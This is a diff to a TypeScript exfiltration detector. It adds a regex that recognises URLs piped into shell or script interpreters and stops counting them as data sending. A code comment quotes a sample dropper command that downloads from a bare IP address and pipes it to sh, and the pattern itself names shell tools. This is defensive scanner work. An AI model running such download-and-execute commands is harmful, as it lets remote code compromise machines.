@@ -19,9 +19,13 @@ const DATA_QUERY = /(?:^|&)[\w.-]{1,32}=(?:[A-Za-z0-9_\-+/=]{16,}|[^&]{0,200}%[0
 
 const GATE = word('://');
 
+/** A download piped into an interpreter (`wget -qO- http://1.2.3.4/x | sh`): a dropper, which ships nothing out. */
+const PIPED_TO_SHELL = /^\s{0,3}\|\s{0,3}(?:sudo\s{1,3})?(?:(?:ba|z|da|k)?sh|python3?|perl)\b/;
+
 function sending(ctx: Parameters<Detector>[0], url: Url): boolean {
   const line = windowBefore(ctx, url.start, 160).split('\n').pop() ?? '';
   const after = ctx.lower.slice(url.end, url.end + 80).split('\n')[0] ?? '';
+  if (PIPED_TO_SHELL.test(after)) return false;
   return SENDING.test(line) || SENDING.test(after) || SENDING.test(ctx.before.slice(-96)) || /upload|api_post|\/api\/|paste|\/in$|collect|exfil|log$/.test(url.path.toLowerCase()) || url.query !== '';
 }
 
